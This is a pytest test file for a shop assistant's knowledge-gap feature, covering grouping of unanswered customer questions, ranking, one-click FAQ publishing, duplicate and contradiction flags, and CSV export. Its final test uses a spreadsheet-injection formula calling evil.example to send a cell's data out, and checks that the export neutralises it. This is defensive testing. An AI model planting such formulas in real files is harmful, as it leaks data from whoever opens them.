"""Knowledge gaps end to end on fakes: recorded questions -> candidates -> groups -> the one-click FAQ path ->
the next customer gets the answer; duplicate and contradiction flags."""

from __future__ import annotations

from datetime import datetime, timedelta

import pandas as pd
import pytest

from tests.assistant.insights.conftest import ask


class WordsEmbedder:
    """Questions about the same thing share a 'topic word': the vector is that word's axis (+ a little noise)."""

    name = "words"
    TOPICS = ("gift", "礼品", "wrap", "voucher", "parking")

    def _vector(self, text):
        import numpy as np

        v = np.zeros(len(self.TOPICS) + 1)
        for i, word in enumerate(self.TOPICS):
            if word in text.lower():
                v[0 if word in ("gift", "礼品", "voucher") else i] += 1.0  # gift = 礼品 = voucher: one meaning
        v[-1] = 0.05 * (len(text) % 7)
        return list(v / (np.linalg.norm(v) or 1.0))

    def embed_documents(self, texts):
        return [self._vector(t) for t in texts]

    def embed_query(self, text):
        return self._vector(text)


def test_group_questions_puts_paraphrases_together_across_languages():
    from assistant.insights.gaps import group_questions

    texts = ["Do you sell gift cards?", "礼品卡怎么买？", "can I buy a voucher", "Is there parking?",
             "parking near the store?", "do you sell gift cards"]
    labels = group_questions(texts, WordsEmbedder(), threshold=0.9)
    assert labels[0] == labels[1] == labels[2] == labels[5]
    assert labels[3] == labels[4] != labels[0]


def _turns(rows):
    cols = ["id", "time", "session_id", "message", "channel", "language", "intent", "action", "handoff",
            "ticket_id", "best_score", "question", "searched", "answer", "cited", "retrieved"]
    base = {"channel": "ui", "language": "en", "intent": "product_question", "handoff": 0, "ticket_id": None,
            "best_score": None, "searched": "", "answer": "", "cited": "[]", "retrieved": None, "message": 0}
    return pd.DataFrame([{**base, **r} for r in rows], columns=cols)


def test_candidates_and_ranking_by_count_and_recency():
    from assistant.insights.gaps import build_groups, candidates

    now = datetime(2026, 5, 1, 12)
    old = now - timedelta(days=30)
    turns = _turns([
        {"id": 1, "time": old, "session_id": "a", "action": "decline", "question": "Is there parking?"},
        {"id": 2, "time": old, "session_id": "b", "action": "decline", "question": "parking near the store?"},
        {"id": 3, "time": now, "session_id": "c", "action": "decline", "question": "Do you sell gift cards?"},
        {"id": 4, "time": now, "session_id": "d", "action": "kb_answer", "question": "礼品卡怎么买？",
         "language": "zh"},  # rated bad below
        {"id": 5, "time": now, "session_id": "e", "action": "kb_answer", "question": "can I buy a voucher",
         "best_score": 0.855},  # just above the abstain threshold: low confidence
        {"id": 6, "time": now, "session_id": "f", "action": "kb_answer", "question": "How much is shipping?",
         "best_score": 0.95},  # a good answer: no gap
        {"id": 7, "time": now, "session_id": "g", "action": "kb_answer", "question": "do you sell gift wrap?",
         "best_score": 0.95},
        {"id": 8, "time": now, "session_id": "g", "action": "handoff", "handoff": 1, "intent": "human_agent",
         "question": "I want a human", "message": 1},  # "talk to a human": the question before is the gap
    ])
    votes = pd.DataFrame([{"session_id": "d", "message": 0, "time": now, "channel": "ui", "vote": -1}])
    cands = candidates(turns, votes, abstain_threshold=0.85, margin=0.01)
    reasons = dict(zip(cands.turn_id, cands.reason, strict=True))
    assert reasons == {1: "declined", 2: "declined", 3: "declined", 4: "rated bad", 5: "low confidence",
                       7: "handed off"}
    groups = build_groups(cands, WordsEmbedder(), threshold=0.9, half_life_days=7, now=now)
    # the gift-card group: 3 recent questions (en + zh) outranks 2 old parking questions
    assert groups[0].count == 3 and set(groups[0].languages) == {"en", "zh"}
    assert {e["question"] for e in groups[0].examples} == {"Do you sell gift cards?", "礼品卡怎么买？",
                                                           "can I buy a voucher"}
    parking = next(g for g in groups if "parking" in g.label.lower())
    assert parking.count == 2 and parking.score < groups[0].score


def test_accepting_the_offer_or_writing_to_the_waiting_colleague_is_no_gap_question():
    # "好的" accepting a colleague, and "Sure, photo attached" sent while the ticket waited, were listed as the gaps
    # and the question before them was not
    from assistant.insights.gaps import candidates

    now = datetime(2026, 5, 1, 12)
    turns = _turns([
        {"id": 1, "time": now, "session_id": "a", "action": "decline", "question": "沙发垫子破了怎么办？",
         "language": "zh", "message": 0},
        {"id": 2, "time": now, "session_id": "a", "action": "handoff", "handoff": 1, "intent": "greeting",
         "question": "好的", "language": "zh", "message": 1},
        {"id": 3, "time": now, "session_id": "a", "action": "handoff", "handoff": 1, "intent": "complaint",
         "question": "Sure, photo attached. Thanks", "message": 2},
    ])
    cands = candidates(turns, pd.DataFrame(columns=["session_id", "message", "time", "channel", "vote"]),
                       abstain_threshold=0.85, margin=0.01, accepts_offer=lambda text: text in ("好的", "yes"))
    assert list(cands.question) == ["沙发垫子破了怎么办？"]


def test_groups_asked_equally_often_rank_by_their_latest_question_not_by_seconds():
    """Two groups of two conversations each, asked minutes apart: the unrounded score weighed the seconds between
    questions (4 minutes apart scored below 30 seconds apart), so a replay's top 10 depended on how fast the
    questions came. The score as shown ties them, and the group asked last comes first."""
    from assistant.insights.gaps import GapGroup, ranked

    now = datetime(2026, 5, 1, 12)

    def group(label, minutes_ago):
        times = [now - timedelta(minutes=m) for m in minutes_ago]
        weights = sum(0.5 ** ((now - t).total_seconds() / 86400 / 7) for t in times)
        return GapGroup(label, label, 2, 2, weights, min(times), max(times), {"en": 2}, {"declined": 2}, [], [1, 2],
                        ["a", "b"])

    spread, close = group("asked 4 minutes apart, latest 1 min ago", (5, 1)), group("30 s apart", (2.5, 2))
    assert close.score > spread.score  # by a hair: the seconds between the questions
    assert [g.label for g in ranked([close, spread])] == [spread.label, close.label]
    # a real difference in recency (days) still ranks first, and so does a larger count
    week_old = group("a week old", (7 * 24 * 60, 7 * 24 * 60 - 1))
    three = GapGroup("three", "three", 3, 3, 2.5, now, now, {"en": 3}, {"declined": 3}, [], [1, 2, 3], ["a"])
    assert [g.label for g in ranked([week_old, spread, three])] == ["three", spread.label, "a week old"]


def test_one_click_faq_makes_the_assistant_answer(runtime):
    from assistant.insights import faq, gaps

    first, sid = ask(runtime, "Do you sell gift cards?")
    assert first.route["action"] == "decline"
    ask(runtime, "Do you sell gift cards?")
    ask(runtime, "I want a human", sid)  # a ticket; the agent replies on it
    ticket = runtime.handoff.tickets_for_session(sid)[-1]
    runtime.handoff.update_status(ticket.id, "in_progress", "customer asked twice; checking with the shop")
    runtime.handoff.reply(ticket.id, "Yes: e-gift cards of ¥100 and ¥200, valid 3 years.")  # the Agent tab's box

    groups = gaps.compute(runtime)
    top = groups[0]
    assert top.label == "Do you sell gift cards?" and top.count == 2
    assert top.human_replies[0]["text"].startswith("Yes: e-gift cards") and top.human_replies[0]["kind"] == "reply"
    rows = faq.suggest(top)
    assert rows[0] == {"lang": "en", "question": "Do you sell gift cards?",
                       "answer": "Yes: e-gift cards of ¥100 and ¥200, valid 3 years."}
    rows[1].update(question="有礼品卡吗？", answer="有电子礼品卡，面额100元和200元，有效期3年。")
    proposal = faq.propose(runtime, rows, top.turn_ids, top.key, by="agent")
    assert proposal.status == "pending" and not proposal.flags
    assert gaps.compute(runtime)[0].key == top.key  # still a gap until an admin publishes it
    published, report = faq.publish(runtime, proposal.id, by="admin")
    assert published.status == "published" and report.ok

    reply, _ = ask(runtime, "Do you sell gift cards?")
    assert reply.route["action"] == "kb_answer"
    assert "¥100" in reply.text and reply.citations[0].row_id == f"gap-{proposal.id}-en"
    zh, _ = ask(runtime, "有礼品卡吗？")
    assert "100元" in zh.text
    assert all(g.key != top.key for g in gaps.compute(runtime))  # answered: off the list
    with pytest.raises(Exception, match="already published"):
        faq.publish(runtime, proposal.id)
    table = runtime.settings.insights.faq_file
    assert "gap-1-en" in open(table, encoding="utf-8").read()


def test_half_filled_rows_are_refused(runtime):
    from assistant.errors import InputError
    from assistant.insights import faq

    with pytest.raises(InputError, match="both a question and an answer"):
        faq.propose(runtime, [{"lang": "en", "question": "Parking?", "answer": ""}])
    with pytest.raises(InputError, match="at least one"):
        faq.propose(runtime, [{"lang": "en", "question": "", "answer": ""}])


def test_duplicates_and_contradictions_are_flagged(runtime):
    from assistant.insights import faq

    same = faq.propose(runtime, [{"lang": "en", "question": "How much does shipping cost?",
                                  "answer": "Standard shipping costs ¥15 and is free from ¥199."}])
    assert same.flags and same.flags[0].startswith("duplicate: ")
    other = faq.propose(runtime, [{"lang": "en", "question": "How much does shipping cost?",
                                   "answer": "Shipping is ¥20."}])
    assert other.flags[0].startswith("contradiction: ") and "ship-cost" in other.flags[0]
    faq.publish(runtime, other.id)
    pairs = faq.faq_conflicts(runtime.kb, 0.93)
    assert set(pairs.kind) == {"contradiction"}  # en rows disagree; the zh row is a translation, not a duplicate
    assert {pairs.row_a[0], pairs.row_b[0]} == {"ship-cost", f"gap-{other.id}-en"}


def test_gap_cli(runtime, tmp_path, capsys):
    from assistant.insights.__main__ import _gaps

    ask(runtime, "Do you sell gift cards?")

    class Args:
        top, csv = 5, str(tmp_path / "gaps.csv")

    assert _gaps(runtime, Args) == 0
    assert "Do you sell gift cards?" in capsys.readouterr().out
    assert "Do you sell gift cards?" in open(tmp_path / "gaps.csv", encoding="utf-8-sig").read()


def test_customers_phrasings_are_published_as_alternative_questions(runtime):
    from assistant.insights import faq

    p = faq.propose(runtime, [{"lang": "en", "question": "Do you sell gift cards?", "answer": "Yes, from ¥100."}],
                    variants=[{"lang": "en", "question": "voucher for a friend available?"},
                              {"lang": "en", "question": "do you sell gift cards"},  # the main question again
                              {"lang": "zh", "question": "有礼品卡吗"}])  # no Chinese answer: not published
    faq.publish(runtime, p.id)
    table = open(runtime.settings.insights.faq_file, encoding="utf-8").read()
    assert "gap-1-en-v1,voucher for a friend available?,\"Yes, from ¥100.\",en" in table
    assert "-v2" not in table and "-v3" not in table
    reply, _ = ask(runtime, "voucher for a friend available?")
    assert reply.text == "Yes, from ¥100." and reply.citations[0].row_id == "gap-1-en-v1"
    assert len(faq.faq_conflicts(runtime.kb, 0.5).query("row_a.str.startswith('gap-1')", engine="python")
               .query("row_b.str.startswith('gap-1')", engine="python")) == 0  # one proposal's rows never clash


def test_an_answer_the_second_reading_was_unsure_of_is_a_low_confidence_gap(runtime, tmp_path):
    """Recorded from the reply's checks, kept in older stores too (the column is added), and listed as a gap
    although the customer got an answer and did not complain."""
    import sqlite3
    from types import SimpleNamespace

    from assistant.insights import gaps
    from assistant.insights.records import record_turn, turns_frame
    from knowledge_base.second_reading import UNSURE

    def reply(checks):
        return SimpleNamespace(text="Orders arrive in 2-4 days.", citations=[], handoff=False, ticket_id=None,
                               route={"action": "kb_answer", "intent": "shipping", "language": "en",
                                      "reasons": ["knowledge base: has answer (best 0.91)"]}, checks=checks)

    record_turn(runtime, "s-unsure", reply([UNSURE]), "en", "ui", question="when does my parcel come")
    record_turn(runtime, "s-sure", reply([]), "en", "ui", question="how much is shipping")
    turns = turns_frame(runtime)
    assert dict(zip(turns.question, turns.unsure, strict=True)) == {"when does my parcel come": 1,
                                                                     "how much is shipping": 0}
    cands = gaps.candidates(turns, pd.DataFrame(columns=["session_id", "message", "vote"]),
                            abstain_threshold=0.6, margin=0.01)
    assert list(zip(cands.question, cands.reason, strict=True)) == [("when does my parcel come", "low confidence")]

    # A store written before the column existed gets it; its rows read as sure.
    path = tmp_path / "app.db"
    con = sqlite3.connect(path)
    con.execute("ALTER TABLE insights_turns DROP COLUMN unsure")
    con.commit()
    con.close()
    from tests.assistant.insights.conftest import make_runtime

    again = make_runtime(tmp_path)
    record_turn(again, "s-new", reply([UNSURE]), "en", "ui", question="where is my parcel")
    old_and_new = turns_frame(again)
    assert list(old_and_new.unsure) == [0, 0, 1]


@pytest.mark.parametrize("a, b, kind", [
    ("Standard shipping costs ¥15 and is free from ¥199.", "Shipping is ¥20.", "contradiction"),
    ("Mon-Fri 9:00-18:00.", "Mon-Fri 9:00-18:00; or call 400-820-1234.", "duplicate"),  # one says more
    ("Call 400-820-1234.", "E-mail support@shop.example.", None),  # two answers to two questions
    ("Yes, we do.", "Yes.", "duplicate"),
])
def test_figures_decide_between_duplicate_and_contradiction(a, b, kind):
    from assistant.insights.faq import verdict

    assert verdict({"answer": a, "lang": "en"}, {"answer": b, "lang": "en"}) == kind


def test_the_shops_contact_rows_are_no_duplicates_but_can_contradict(tmp_path, monkeypatch):
    import numpy as np

    import knowledge_base.embeddings as emb
    from assistant.insights import faq

    class KB:
        embedder = None

    rows = [{"row_id": "en-hours", "source": "faq.csv", "lang": "en", "question": "When are you open?",
             "answer": "Mon-Fri 9:00-18:00, call 400-820-1234."},
            {"row_id": "shop-hours-en", "source": str(tmp_path / "shop-contact.csv"), "lang": "en",
             "question": "When are you open?", "answer": "Mon-Fri 9:00-18:00."}]
    monkeypatch.setattr(faq, "faq_rows", lambda kb: rows)
    monkeypatch.setattr(emb, "embed_queries", lambda e, texts: np.ones((len(texts), 3)))  # one question twice
    assert len(faq.faq_conflicts(KB(), 0.95)) == 0
    rows[1]["answer"] = "Mon-Fri 10:00-17:00."  # the config says other hours than the FAQ
    assert list(faq.faq_conflicts(KB(), 0.95).kind) == ["contradiction"]



def test_the_report_never_shows_the_assistants_draft_as_a_persons_reply(tmp_path):
    """A ticket nobody answered holds only the assistant's draft (for a 👎, the very answer rated bad): the table
    and the CSV say it is one, and a note is the agent's note."""
    from datetime import datetime

    from assistant.insights.gaps import GapGroup, export_csv, groups_frame

    now = datetime(2026, 1, 1)
    group = GapGroup("k", "Do you sell gift cards?", 1, 1, 1.0, now, now, {"en": 1}, {"declined": 1},
                     [{"time": now, "question": "Do you sell gift cards?", "reason": "declined", "answer": "",
                       "lang": "en", "session_id": "s"}], [1], ["s"],
                     human_replies=[{"ticket": 3, "text": "Opened tea cannot be returned.", "kind": "draft"}])
    shown = groups_frame([group])["human reply"].iloc[0]
    assert shown == "no reply yet; the assistant's draft: Opened tea cannot be returned."
    export_csv([group], tmp_path / "gaps.csv")
    assert "the assistant's draft: Opened tea" in (tmp_path / "gaps.csv").read_text(encoding="utf-8-sig")
    group.human_replies = [{"ticket": 3, "text": "Checking with the tea master.", "kind": "note"}]
    assert groups_frame([group])["human reply"].iloc[0] == "agent's note: Checking with the tea master."
    group.human_replies = [{"ticket": 3, "text": "Yes: e-gift cards of ¥100.", "kind": "reply"}]
    assert groups_frame([group])["human reply"].iloc[0] == "Yes: e-gift cards of ¥100."


def test_a_customers_formula_in_the_gap_export_stays_text_in_excel(tmp_path):
    import csv
    from datetime import datetime

    from assistant.insights.gaps import GapGroup, export_csv

    now = datetime(2026, 1, 1)
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"查看订单")'
    group = GapGroup("k", formula, 1, 1, 1.0, now, now, {"zh": 1}, {"declined": 1},
                     [{"time": now, "question": formula, "reason": "declined", "answer": "-1 day", "lang": "zh",
                       "session_id": "s"}], [1], ["s"])
    export_csv([group], tmp_path / "gaps.csv")
    with (tmp_path / "gaps.csv").open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["question"] == "'" + formula and row["group"] == "'" + formula
    assert row["assistant said"] == "'-1 day" and row["rank"] == "1"  # numbers stay numbers
